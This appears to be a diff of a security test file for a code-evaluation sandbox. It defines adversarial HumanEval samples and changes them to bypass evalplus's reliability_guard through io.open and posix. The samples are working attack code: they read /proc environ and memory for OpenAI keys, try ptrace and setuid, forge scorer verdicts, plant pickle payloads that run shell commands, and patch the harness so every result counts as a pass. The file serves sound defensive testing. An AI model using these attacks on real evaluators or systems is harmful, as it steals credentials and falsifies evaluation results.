@@ -4,7 +4,9 @@ Each attack is a HumanEval sample whose function returns wrong values and tries 
 to steal what it must not see (the expected outputs, an API key, the scorer's memory, the project
 tree), or to leave something behind. Each attack signals a successful theft by raising an
 exception whose class name contains ``LEAKED`` (the score file keeps that name as the reason).
-The canonical solutions of the same tasks are scored beside them and must still pass.
+The canonical solutions of the same tasks are scored beside them and must still pass. The attacks
+go around evalplus's ``reliability_guard`` (which only sets ``open``, ``os.chmod`` and friends to
+None) with ``io.open`` and ``posix``: that guard is for verdict parity, not protection.
 """
 
 from __future__ import annotations
@@ -27,6 +29,7 @@ SRC = REPO / "src"
 SANDBOX_UIDS = (61000, 62000)
 
 _LEAK = '''
+import io, posix
 def _leak(what):
     raise type("LEAKED_" + "".join(c if c.isalnum() else "_" for c in str(what))[:60], (Exception,), {})()
 '''
@@ -42,6 +45,7 @@ def attacks(canary: str) -> dict[str, str]:
     h1, h2 = _NEEDLE[:9], _NEEDLE[9:]
     return {
         "frame_locals_expected": _LEAK + """
+import io, posix
 import sys
 def {fn}(*a):
     f = sys._getframe(1)
@@ -54,6 +58,7 @@ def {fn}(*a):
     return None
 """,
         "patch_harness_then_always_eq": """
+import io, posix
 import sys
 for name, mod in list(sys.modules.items()):
     if name.startswith("evolcoder"):
@@ -70,6 +75,7 @@ def {fn}(*a):
     return AlwaysEq()
 """,
         "forge_pipe_verdict": """
+import io, posix
 import os, pickle
 for msg in ({"status": "pass"}, {"outputs": [], "stop": None},
             {"outputs": [pickle.dumps(True)] * 5000, "stop": None}):
@@ -84,6 +90,7 @@ def {fn}(*a):
     return None
 """,
         "forge_worker_protocol": """
+import io, posix
 import os, pickle
 # what a worker answers its scorer: (index, JobResult) -- if this reached the scorer it would be trusted
 class JobResult:
@@ -101,13 +108,14 @@ def {fn}(*a):
     return None
 """,
         "read_parent_environ_and_mem": _LEAK + """
+import io, posix
 import os
 def _ancestors():
     pid = os.getpid()
     out = []
     for _ in range(12):
         try:
-            with open(f"/proc/{pid}/status") as fh:
+            with io.open(f"/proc/{pid}/status") as fh:
                 pid = int([l for l in fh if l.startswith("PPid:")][0].split()[1])
         except OSError:
             break
@@ -120,16 +128,16 @@ def {fn}(*a):
         if pid == os.getpid():
             continue
         try:
-            with open(f"/proc/{pid}/environ", "rb") as fh:
+            with io.open(f"/proc/{pid}/environ", "rb") as fh:
                 env = fh.read()
             if b"OPENAI_API_KEY" in env or b"sk-" in env:
                 _leak(env[env.find(b"sk-"):][:40].decode(errors="replace"))
         except OSError:
             pass
         try:
-            with open(f"/proc/{pid}/maps") as fh:
+            with io.open(f"/proc/{pid}/maps") as fh:
                 start = int(fh.readline().split("-")[0], 16)
-            with open(f"/proc/{pid}/mem", "rb") as fh:
+            with io.open(f"/proc/{pid}/mem", "rb") as fh:
                 fh.seek(start)
                 if fh.read(64):
                     _leak(f"mem_of_{pid}")
@@ -141,6 +149,7 @@ def {fn}(*a):
     return None
 """,
         "ctypes_ptrace_and_caps": _LEAK + """
+import io, posix
 import ctypes, os
 libc = ctypes.CDLL(None, use_errno=True)
 def {fn}(*a):
@@ -149,7 +158,7 @@ def {fn}(*a):
         _leak("ptrace_parent")
     if libc.setuid(0) == 0 and os.getuid() == 0 and os.path.exists("/proc/1/environ"):
         try:
-            open("/proc/1/environ", "rb").read()
+            io.open("/proc/1/environ", "rb").read()
             _leak("root_again")
         except OSError:
             pass
@@ -163,6 +172,7 @@ def {fn}(*a):
     return None
 """,
         "gc_hunt_expected": _LEAK + f"""
+import io, posix
 import gc
 _calls = [0]
 def {{fn}}(*a):
@@ -181,9 +191,9 @@ def {{fn}}(*a):
 """,
         "memory_scan_expected": _LEAK + f"""
 def _scan():
-    with open("/proc/self/maps") as fh:
+    with io.open("/proc/self/maps") as fh:
         regions = [l.split() for l in fh]
-    with open("/proc/self/mem", "rb", 0) as mem:
+    with io.open("/proc/self/mem", "rb", 0) as mem:
         for r in regions:
             if "r" not in r[1]:
                 continue
@@ -203,6 +213,7 @@ def {{fn}}(string):
     return string
 """,
         "signal_handlers": """
+import io, posix
 import signal, os, pickle
 for sig in (signal.SIGPROF, signal.SIGALRM, signal.SIGXCPU, signal.SIGTERM, signal.SIGVTALRM):
     try:
@@ -223,6 +234,7 @@ def {fn}(*a):
         pass
 """,
         "settrace_rewrites_locals": """
+import io, posix
 import sys, threading
 def tracer(frame, event, arg):
     if event == "return":
@@ -239,6 +251,7 @@ def {fn}(*a):
     return None
 """,
         "thread_outlives_and_mutates": """
+import io, posix
 import threading, time, os, pickle
 _out = []
 def _late():
@@ -259,6 +272,7 @@ def {fn}(*a):
         # a hand-made pickle that would run a shell command wherever it is loaded with plain pickle:
         # inside the result (read by the scorer) and as the whole result (read by the worker)
         "pickle_payload_in_outputs": f"""
+import io, posix
 import os, pickle
 payload = b"cposix\\nsystem\\n(S'touch {canary}-scorer'\\ntR."
 data = pickle.dumps({{"outputs": [payload] * 3, "stop": None}})
@@ -272,6 +286,7 @@ def {{fn}}(*a):
     return None
 """,
         "pickle_payload_as_result": f"""
+import io, posix
 import os
 data = b"cposix\\nsystem\\n(S'touch {canary}-worker'\\ntR."
 for fd in range(3, 64):
@@ -284,18 +299,19 @@ def {{fn}}(*a):
     return None
 """,
         "leave_files_and_read_project": _LEAK + f"""
+import io, posix
 import os
 KEY = os.environ.get("OPENAI_API_KEY", "no-key")
-for d in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", os.getcwd(), os.path.expanduser("~"), {str(REPO)!r}):
+for d in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", posix.getcwd(), os.path.expanduser("~"), {str(REPO)!r}):
     try:
-        with open(os.path.join(d, "evolcoder-attack-leftover.txt"), "w") as fh:
+        with io.open(os.path.join(d, "evolcoder-attack-leftover.txt"), "w") as fh:
             fh.write(KEY)
-        os.chmod(os.path.join(d, "evolcoder-attack-leftover.txt"), 0o666)
+        posix.chmod(os.path.join(d, "evolcoder-attack-leftover.txt"), 0o666)
     except OSError:
         pass
 for p in ({str(REPO / "pyproject.toml")!r}, {str(REPO / ".git" / "HEAD")!r}):
     try:
-        open(p).read()
+        io.open(p).read()
         _leak("project_tree")
     except OSError:
         pass
